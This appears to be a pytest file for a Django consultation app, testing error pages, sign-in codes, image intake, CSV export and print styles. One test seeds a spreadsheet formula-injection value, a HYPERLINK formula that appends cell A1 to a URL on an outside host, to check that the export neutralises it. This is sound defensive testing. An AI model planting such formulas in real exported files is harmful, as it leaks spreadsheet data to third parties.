"""Pages, files and answers as people meet them: in our words, in their browser, on paper."""

import json
import re
from io import BytesIO
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from PIL import Image

from tests.cast import Cast
from tests.factories import consultations as CO
from yishiting.ground.files.pictures import drawn_anew
from yishiting.ground.files.rules import KINDS
from yishiting.ground.notices.models import Message
from yishiting.year.consultations.actions import (
    close_consultation,
    open_consultation,
    publish_consultation,
    seed_statement,
)

pytestmark = pytest.mark.django_db


def test_a_stale_form_gets_our_page_and_keeps_the_words(cast: Cast) -> None:
    c = Client(enforce_csrf_checks=True)
    r = c.post(f"/p/{cast.zaobei.code}/suggest/", {"text": "不想重写的一段话"})
    page = r.content.decode()
    assert "DEBUG" not in page
    assert "不想重写的一段话" in page


@pytest.mark.parametrize("typed", ["{0} {1}", "wide", "{0}{1}\u200b"])
def test_a_code_with_a_blank_or_wide_digits(cast: Cast, typed: str) -> None:
    c = Client()
    c.post("/account/sign-in/", {"phone": "13700001234"})
    body = Message.objects.filter(template="code").latest("created_at").body
    code = re.search(r"\d{6}", body)[0]
    given = (
        code.translate({ord("0") + n: 0xFF10 + n for n in range(10)})
        if typed == "wide"
        else typed.format(code[:3], code[3:])
    )
    assert c.post("/account/code/", {"code": given}).status_code == 302


def test_no_words_of_the_framework(cast: Cast) -> None:
    r = Client().post(f"/p/{cast.zaobei.code}/suggest/", {"text": "灯坏了", "where": "东" * 130})
    assert "该变量" not in r.content.decode()


def test_no_english_in_a_sentence_of_the_api(cast: Cast) -> None:
    r = Client().post(
        f"/api/v1/places/{cast.zaobei.code}/suggestion-submit",
        json.dumps({"text": "灯坏了", "title": "长" * 201}),
        content_type="application/json",
    )
    assert r.status_code == 422
    assert "String" not in r.json()["sentence"]


def test_a_108_megapixel_phone_photo(cast: Cast) -> None:
    out = BytesIO()
    Image.new("RGB", (12000, 9000), (90, 90, 90)).save(out, "JPEG", quality=30)
    assert drawn_anew(out.getvalue(), KINDS["jpg"])  # taken in (made smaller), or refused with words for a photograph


def test_statements_file_opens_in_a_spreadsheet(cast: Cast) -> None:
    k = CO.drafted(cast)
    seed_statement(k, by=cast.liu, text='=HYPERLINK("http://example.com/?"&A1,"点这里")')
    open_consultation(k, by=cast.wang)
    CO.answered(k, 24)
    k = publish_consultation(close_consultation(k, by=cast.liu), by=cast.wang)
    content = Client().get(f"/consultations/{k.pk}/statements.csv").content
    assert content.startswith(b"\xef\xbb\xbf")
    assert '"=HYPERLINK' not in content.decode("utf-8-sig")


def test_totals_stand_once() -> None:
    css = Path("yishiting/doors/web/shared/static/yishiting/print.css").read_text()
    assert re.search(r"tfoot\s*{[^}]*table-row-group", css)


def test_htmx_parses_before_chromium_80() -> None:
    served = Client().get(reverse("htmx"))
    text = served.content.decode()
    assert not re.search(r"\?\.[a-zA-Z]", text)
    assert "??" not in text
    assert len(text) > 40_000
    assert Client().get(reverse("htmx"), HTTP_IF_NONE_MATCH=served["ETag"]).status_code == 304
